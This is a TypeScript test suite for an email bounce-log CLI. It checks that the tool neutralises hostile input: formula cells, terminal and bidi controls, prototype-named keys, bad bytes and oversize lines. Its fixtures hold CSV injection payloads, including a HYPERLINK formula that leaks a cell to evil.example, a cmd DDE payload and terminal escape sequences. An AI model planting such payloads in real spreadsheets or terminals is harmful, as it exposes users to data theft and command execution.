/**
 * Input is hostile: reply texts are written by remote mail servers, campaign names and lead lists
 * by whoever made the export. Nothing from them may run as a formula in a spreadsheet, act on a
 * terminal, split a row, mis-decode its neighbours, hide in an address, or exhaust memory.
 */
import { describe, it, expect, beforeEach, afterEach } from 'vitest';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { runCli, tempDir } from '../helpers/run-cli.js';

let tmp: ReturnType<typeof tempDir>;
beforeEach(() => {
  tmp = tempDir();
});
afterEach(() => tmp.cleanup());

const put = (name: string, text: string | Buffer): string => {
  writeFileSync(join(tmp.dir, name), text);
  return name;
};
const read = (name: string): string => readFileSync(join(tmp.dir, name), 'utf8');
const rowsOf = (name: string): Record<string, string>[] => parse(read(name), { columns: true }) as Record<string, string>[];
const cli = (args: string[]) => runCli(args, { cwd: tmp.dir });

/** No cell a spreadsheet would run: none starts (after spaces) with = + - @, none holds a control or bidi override. */
function expectInert(name: string, addressColumns: string[] = ['email', 'Email', 'address']): void {
  const records = parse(read(name), { relax_column_count: true }) as string[][];
  const header = records[0]!;
  for (const r of records.slice(1)) {
    r.forEach((cell, i) => {
      // eslint-disable-next-line no-control-regex
      expect(cell).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
      if (!addressColumns.includes(header[i]!)) expect(cell, `${name} ${header[i]}`).not.toMatch(/^\s*[=+\-@]/);
    });
  }
}

describe('formula injection (OWASP CSV Injection)', () => {
  const LOG =
    'email,status,diagnostic,campaign\n' +
    'ann@example.com,550,"=HYPERLINK(""http://evil.example/?""&A1,""click"") 550 5.1.1 user unknown",=cmd|\' /C calc\'!A0\n' +
    'bob@example.com,550,"\t=1+2 550 5.1.1 user unknown",@SUM(1+1)\n' +
    'carl@example.com,550,"\r-2+3 550 5.1.1 user unknown",+campaign\n' +
    '-dana@example.com,550,550 5.1.1 user unknown,-10% off\n';

  it('neutralises every free-text cell of the suppression CSV in every profile, the rows CSV and the merge list', async () => {
    put('log.csv', LOG);
    for (const profile of ['generic', 'mailgun', 'hubspot', 'plain']) {
      const r = await cli(['log.csv', '-o', `${profile}.csv`, '--profile', profile, '-q']);
      expect(r.code, r.stderr).toBe(0);
      if (profile !== 'plain') expectInert(`${profile}.csv`);
    }
    expect(await cli(['log.csv', '--rows-out', 'rows.csv', '--explain', '--merge', 'all.csv', '--no-out', '-q'])).toMatchObject({ code: 0 });
    expectInert('rows.csv');
    expectInert('all.csv');
    const generic = rowsOf('generic.csv');
    const ann = generic.find((r) => r.email === 'ann@example.com')!;
    expect(ann.diagnostic).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click") 550 5.1.1 user unknown');
    expect(ann.campaigns).toBe("'=cmd|' /C calc'!A0");
    // The reply is trimmed to one line, taking the TAB and CR in front of '=' and '-' away:
    // the apostrophe is added after that, so it still comes first.
    expect(generic.find((r) => r.email === 'bob@example.com')!.diagnostic).toBe("'=1+2 550 5.1.1 user unknown");
    expect(generic.find((r) => r.email === 'carl@example.com')!.diagnostic).toBe("'-2+3 550 5.1.1 user unknown");
    // In the rows CSV the campaign keeps its own spelling, made safe the same way.
    const rows = rowsOf('rows.csv');
    expect(rows.find((r) => r.email === 'bob@example.com')!.campaign).toBe("'@SUM(1+1)");
  });

  it('writes an address that starts with "-" as it is (an apostrophe would make it another address), in every profile', async () => {
    put('log.csv', LOG);
    await cli(['log.csv', '-o', 'plain.csv', '--profile', 'plain', '-q']);
    expect(read('plain.csv').split('\n')).toContain('-dana@example.com');
    await cli(['log.csv', '-o', 'g.csv', '-q']);
    expect(read('g.csv')).toMatch(/^-dana@example\.com,user-unknown,/m);
  });

  it('rejects an address that starts like a formula and holds what a formula is built from', async () => {
    put('log.csv', "email,status,diagnostic\n=cmd|'/Ccalc'!A0@example.com,550,550 5.1.1 user unknown\nok@example.com,250,250 OK\n");
    const r = await cli(['log.csv', '-o', 's.csv', '--rows-out', 'rows.csv', '--json']);
    const j = JSON.parse(r.stdout);
    expect(j.rows.rejectedByReason).toEqual({ 'invalid-email': 1 });
    expect(read('s.csv')).toBe(read('s.csv').split('\n')[0] + '\n');
    // The rows CSV shows the raw value as text, neutralised.
    expect(rowsOf('rows.csv')[0]!.email).toBe("'=cmd|'/Ccalc'!A0@example.com");
  });

  it('re-merging a list with neutralised cells is byte-identical', async () => {
    put('log.csv', LOG);
    await cli(['log.csv', '--merge', 'all.csv', '--no-out', '-q']);
    const first = read('all.csv');
    await cli(['log.csv', '--merge', 'all.csv', '--no-out', '-q']);
    expect(read('all.csv')).toBe(first);
  });
});

describe('controls in the terminal and in CSV cells', () => {
  it('shows ESC, BEL and bidi overrides of campaign names as visible escapes in the terminal report', async () => {
    put('log.csv', 'email,status,diagnostic,campaign\nann@example.com,550,550 5.1.1 user unknown,"x\u001b]0;pwned\u0007\u001b[2Jy\u202e"\nbob@example.com,250,250 OK,"x\u001b]0;pwned\u0007\u001b[2Jy\u202e"\n');
    const r = await cli(['log.csv', '--no-out']);
    // eslint-disable-next-line no-control-regex
    expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(r.stdout).toContain('x\\x1B]0;pwned\\x07\\x1B[2Jy\\u202E');
  });

  it('escapes controls in an error message printed on stderr', async () => {
    put('all.csv', 'email,campaign_counts\na@b.com,"{\u001b[2J"\n');
    put('log.csv', 'email,status,diagnostic\nann@example.com,550,550 5.1.1 user unknown\n');
    const r = await cli(['log.csv', '--merge', 'all.csv', '--no-out']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('campaign_counts is not valid JSON: {\\x1B[2J');
  });

  it('writes control characters of reply texts and campaigns as U+FFFD or a space, never raw', async () => {
    put('log.csv', 'email,status,diagnostic,campaign\nann@example.com,550,"550 5.1.1 gone\u0001\u001b[31m\u0085",c\u0007d\u202ee\n');
    await cli(['log.csv', '-o', 's.csv', '--rows-out', 'rows.csv', '-q']);
    expectInert('s.csv');
    expectInert('rows.csv');
    expect(rowsOf('s.csv')[0]).toMatchObject({ campaigns: 'c\ufffdd\ufffde', diagnostic: '550 5.1.1 gone\ufffd\ufffd[31m\ufffd' });
  });
});

describe('a CR inside a quoted field', () => {
  it('--clean copies a lead row with a bare CR in a quoted field whole, and the cleaned list reads back row for row', async () => {
    put('log.csv', 'email,status,diagnostic\nann@example.com,550,550 5.1.1 user unknown\n');
    const leads = 'email,notes\nann@example.com,x\ncarl@example.com,"line one\rline two"\ndora@example.com,"a\r\nb"\n';
    put('leads.csv', leads);
    const r = await cli(['log.csv', '--clean', 'leads.csv', '--no-out', '--json']);
    expect(JSON.parse(r.stdout).clean).toMatchObject({ rows: 3, removed: 1, kept: 2 });
    expect(read('leads.clean.csv')).toBe('email,notes\ncarl@example.com,"line one\rline two"\ndora@example.com,"a\r\nb"\n');
    expect(rowsOf('leads.clean.csv')).toEqual([
      { email: 'carl@example.com', notes: 'line one\rline two' },
      { email: 'dora@example.com', notes: 'a\r\nb' },
    ]);
  });

  it('a campaign name with a CR keeps its merge-list row whole: nothing is skipped when it is read again', async () => {
    put('log.csv', 'email,status,diagnostic,campaign\nann@example.com,550,550 5.1.1 user unknown,"Spring\rsale"\n');
    await cli(['log.csv', '--merge', 'all.csv', '--no-out', '-q']);
    const r = await cli(['log.csv', '--merge', 'all.csv', '--no-out', '--json']);
    expect(JSON.parse(r.stdout).merge).toMatchObject({ before: 1, after: 1, skipped: 0, updated: 0 });
    expect(JSON.parse(rowsOf('all.csv')[0]!.campaign_counts!)).toEqual({ 'Spring\rsale': 1 });
  });
});

describe('campaign names that are JavaScript property names', () => {
  it('count right in the merge list, and merging the same log twice is byte-identical', async () => {
    const names = ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf'];
    put('log.csv', 'email,status,diagnostic,campaign\n' + names.map((n) => `ann@example.com,550,550 5.1.1 user unknown,${n}\n`).join(''));
    await cli(['log.csv', '--merge', 'all.csv', '--no-out', '-q']);
    const first = read('all.csv');
    const ann = rowsOf('all.csv')[0]!;
    expect(ann.bounce_count).toBe('5');
    expect(Object.entries(JSON.parse(ann.campaign_counts!))).toEqual([...names].sort().map((n) => [n, 1]));
    await cli(['log.csv', '--merge', 'all.csv', '--no-out', '-q']);
    expect(read('all.csv')).toBe(first);
  });
});

describe('one invalid byte decodes one character, not its neighbours', () => {
  it('keeps valid UTF-8 addresses and campaigns around a stray 0xFF, so --clean removes the real lead', async () => {
    const good = (i: number): string => `m${i}@example.com,250,250 OK,Rabatt 20 €\n`;
    const parts: Buffer[] = [Buffer.from('email,status,diagnostic,campaign\n')];
    for (let i = 0; i < 20_000; i++) parts.push(Buffer.from(good(i)));
    parts.push(Buffer.from('müller@exämple.de,550,550 5.1.1 user unknown,Rabatt 20 €\n'));
    parts.push(Buffer.concat([Buffer.from('x@example.com,550,"550 5.1.1 unknown '), Buffer.from([0xff]), Buffer.from('",Rabatt 20 €\n')]));
    for (let i = 20_000; i < 22_000; i++) parts.push(Buffer.from(good(i)));
    put('log.csv', Buffer.concat(parts));
    put('leads.csv', 'email\nmüller@exämple.de\nkeep@example.com\n');
    const r = await cli(['log.csv', '-o', 's.csv', '--clean', 'leads.csv', '--json']);
    const j = JSON.parse(r.stdout);
    expect(j.campaigns.map((c: { campaign: string }) => c.campaign)).toEqual(['Rabatt 20 €']);
    expect(j.inputs[0]).toMatchObject({ encoding: 'utf-8', encodingDetectedBy: 'invalid-utf8' });
    expect(rowsOf('s.csv').map((x) => [x.email, x.diagnostic])).toEqual([
      ['müller@exämple.de', '550 5.1.1 user unknown'],
      ['x@example.com', '550 5.1.1 unknown ÿ'],
    ]);
    expect(j.clean).toMatchObject({ removed: 1, kept: 1 });
  });
});

describe('addresses', () => {
  it('--clean removes the punycode and the NFD spelling of a suppressed Unicode address', async () => {
    put('log.csv', 'email,status,diagnostic\nmüller@exämple.de,550,550 5.1.1 user unknown\n');
    put('leads.csv', 'email\nmüller@xn--exmple-cua.de\nmu\u0308ller@exa\u0308mple.de\nMÜLLER@EXÄMPLE.DE\nother@example.com\n');
    const r = await cli(['log.csv', '--clean', 'leads.csv', '--no-out', '--json']);
    expect(JSON.parse(r.stdout).clean).toMatchObject({ rows: 4, removed: 3, kept: 1 });
  });

  it('accepts quoted local parts and IP literals, cuts mailto: and its ?query, and rejects hidden characters', async () => {
    const emails = [
      '"john doe"@example.com',
      'user@[192.0.2.1]',
      'user@[IPv6:2001:DB8::1]',
      'mailto:x@example.com?subject=hi',
      'a\u200bb@example.com',
      'a\u202eb@example.com',
      'a\u0000b@example.com',
    ];
    // 300 rows first: a NUL in the first 8 KB makes the file binary, which is refused as a whole.
    const pad = Array.from({ length: 300 }, (_, i) => `pad${i}@example.com,250,250 OK\n`).join('');
    put('log.csv', 'email,status,diagnostic\n' + pad + emails.map((e) => `"${e.replaceAll('"', '""')}",550,550 5.1.1 user unknown\n`).join(''));
    const r = await cli(['log.csv', '-o', 's.csv', '--json']);
    const j = JSON.parse(r.stdout);
    expect(j.rows.rejectedByReason).toEqual({ 'invalid-email': 3 });
    expect(j.rows.rejectedSamples.map((s: { line: number }) => s.line)).toEqual([306, 307, 308]);
    expect(rowsOf('s.csv').map((x) => x.email).sort()).toEqual(['"john doe"@example.com', 'user@[192.0.2.1]', 'user@[IPv6:2001:db8::1]', 'x@example.com'].sort());
  });
});

describe('memory bounds', () => {
  it('stops with file:line when a JSON Lines record or a mail-log line is longer than 16 MB', async () => {
    const huge = 'x'.repeat(17 * 1024 * 1024);
    put('big.jsonl', `{"eventType":"Bounce"}\n{"pad":"${huge}"}\n`);
    const j = await cli(['big.jsonl', '--no-out']);
    expect(j.code).toBe(2);
    expect(j.stderr).toBe('bounce-audit: error: big.jsonl:2: this line is longer than 16 MB: not a JSON Lines record or a mail-log line\n');
    put('mail.log', `Oct  1 10:00:00 mx postfix/smtp[1]: ABC123: to=<a@example.com>, relay=x, status=bounced (550 5.1.1 user unknown)\n${huge}\n`);
    const m = await cli(['mail.log', '--no-out']);
    expect(m.code).toBe(2);
    expect(m.stderr).toMatch(/^bounce-audit: error: mail\.log:2: this line is longer than 16 MB/);
  });

  it('stops with file:line at the 100,001st distinct campaign, naming the likely cause', async () => {
    const rows = ['email,status,diagnostic,campaign'];
    for (let i = 0; i <= 100_000; i++) rows.push(`u${i}@example.com,250,250 OK,msg-${i}`);
    put('log.csv', `${rows.join('\n')}\n`);
    const r = await cli(['log.csv', '--no-out']);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      'bounce-audit: error: log.csv:100002: more than 100,000 distinct campaigns: the column read as the campaign does not hold campaign names ' +
        '(an id per message?). Name the campaign column with --campaign-column, or give the log without that column\n',
    );
  });
});
